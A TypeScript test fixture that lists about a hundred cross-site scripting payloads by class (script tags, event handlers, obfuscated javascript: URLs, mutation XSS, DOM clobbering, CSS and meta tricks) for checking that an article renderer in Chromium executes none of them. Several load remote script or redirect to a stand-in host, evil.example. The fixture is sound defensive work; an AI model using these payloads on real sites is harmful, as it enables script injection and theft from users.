/**
 * Hostile HTML written for this project, by class. Each is built into an
 * article (body, caption, alt text, title, author, category) and opened in
 * Chromium; nothing may execute. `X` is replaced by a call that records execution.
 */
const X = 'alert(1)';

const scriptTags = [
  `<script>${X}</script>`,
  `<SCRIPT SRC=data:text/javascript,${X}></SCRIPT>`,
  `<script src="//evil.example/x.js"></script>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<script type="module">${X}</script>`,
  `<script>/*</script><img src=x onerror=${X}>*/</script>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><script href="data:text/javascript,${X}"/></svg>`,
  `<math><script>${X}</script></math>`,
  `<div><script\x20type="text/javascript">${X}</script></div>`,
];

const handlerElements = [
  'img src=x onerror',
  'image src=x onerror',
  'body onload',
  'svg onload',
  'video src=x onerror',
  'audio src=x onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'div onmouseover',
  'a href=# onclick',
  'button onclick',
  'form onsubmit',
  'keygen autofocus onfocus',
  'frameset onload',
  'style onload',
  'link rel=stylesheet href=x onload',
  'track src=x onerror',
  'source src=x onerror',
  'p onpointerenter',
  'span onanimationstart style="animation:x 1s"',
  'section onscroll',
  'table background=x onerror',
  'img src=x onerror\u000c',
  'img/src=x/onerror',
];
const eventHandlers = handlerElements.map((spec) => {
  const tag = spec.split(/[ /]/)[0];
  return `<${spec}=${X}>text</${tag}>`;
});

const protocols = [
  `<a href="javascript:${X}">a</a>`,
  `<a href="JaVaScRiPt:${X}">b</a>`,
  `<a href=" javascript:${X}">c</a>`,
  `<a href="java\tscript:${X}">d</a>`,
  `<a href="java\nscript:${X}">e</a>`,
  `<a href="java&#x09;script:${X}">f</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">g</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${X}">h</a>`,
  `<a href="javascript&colon;${X}">i</a>`,
  `<a href="\x01javascript:${X}">j</a>`,
  `<a href="vbscript:msgbox(1)">k</a>`,
  `<a href="jav&#x0D;ascript:${X}">l</a>`,
  `<img src="javascript:${X}">`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<form action="javascript:${X}"><input type=submit></form>`,
  `<a href="%6Aavascript:${X}">m</a>`,
];

const dataAndFrames = [
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">n</a>`,
  `<iframe srcdoc="<script>parent.${X}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${X}</script>"></iframe>`,
  `<object data="data:text/html,<script>${X}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${X}>">`,
  `<button form=f formaction="javascript:${X}">o</button><form id=f></form>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>p</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${X}'/></svg>#x"/></svg>`,
  `<math href="javascript:${X}">q</math>`,
  `<isindex action="javascript:${X}" type=image>`,
  `<input type=image src=x formaction="javascript:${X}">`,
  `<object type="text/x-scriptlet" data="//evil.example/x"></object>`,
];

const mutation = [
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${X}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<template><img src=x onerror=${X}></template>`,
  `<template><script>${X}</script></template>`,
  `<svg><style><img src=x onerror=${X}></style></svg>`,
  `<math><style><img src=x onerror=${X}></style></math>`,
  `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`,
  `<math><mi xlink:href="data:x,<script>${X}</script>">r</mi></math>`,
  `<svg><desc><img src=x onerror=${X}></desc></svg>`,
  `<svg><title><img src=x onerror=${X}></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`,
  `<table><caption><svg><style><img src=x onerror=${X}></style></svg></caption></table>`,
  `<select><template><img src=x onerror=${X}></template></select>`,
  `<textarea></textarea><img src=x onerror=${X}></textarea>`,
  `<xmp><img src=x onerror=${X}></xmp>`,
  `<plaintext><img src=x onerror=${X}>`,
  `<!--><img src=x onerror=${X}>-->`,
  `<![CDATA[><img src=x onerror=${X}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${X}>]]></svg>`,
  `<a title="<img src=x onerror=${X}>">s</a>`,
];

const clobbering = [
  `<img name="getElementById">`,
  `<form id="location"></form>`,
  `<a id="defaultView" href="javascript:${X}">t</a>`,
  `<img name="cookie">`,
  `<form name="body"><input name="innerHTML"></form>`,
  `<a id="__proto__">u</a>`,
  `<img id="createElement">`,
  `<form id="trustedTypes"></form>`,
];

const css = [
  `<div style="background:url(javascript:${X})">v</div>`,
  `<div style="width: expression(${X})">w</div>`,
  `<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<div style="behavior: url(x.htc)">y</div>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:#fff">z</p>`,
  `<style>body{display:none}</style>`,
];

const documentLevel = [
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<html><head><base href="javascript:/"></head></html>`,
];

const animations = [
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${X}"><a>aa</a></set></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${X}"/><text x=20 y=20>ab</text></a></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${X}</handler></svg>`,
  `<svg><image href=x onerror=${X}></image></svg>`,
];

const textOnly = [
  `"><script>${X}</script>`,
  `'><img src=x onerror=${X}>`,
  `</title><script>${X}</script>`,
  `{{constructor.constructor('${X}')()}}`,
  `\${${X}}`,
];

export const PAYLOAD_CLASSES: Record<string, string[]> = {
  'script tags': scriptTags,
  'event handlers': eventHandlers,
  'protocol obfuscation': protocols,
  'data, srcdoc, formaction, xlink': dataAndFrames,
  'mutation XSS': mutation,
  'DOM clobbering': clobbering,
  'CSS attacks': css,
  'base and meta': documentLevel,
  'SVG animation': animations,
  'text that looks like markup': textOnly,
};

export const PAYLOADS: { id: string; group: string; html: string }[] = Object.entries(PAYLOAD_CLASSES).flatMap(
  ([group, list]) =>
    list.map((html, index) => ({ id: `${group.replace(/[^a-z]+/gi, '-')}-${index + 1}`.toLowerCase(), group, html })),
);
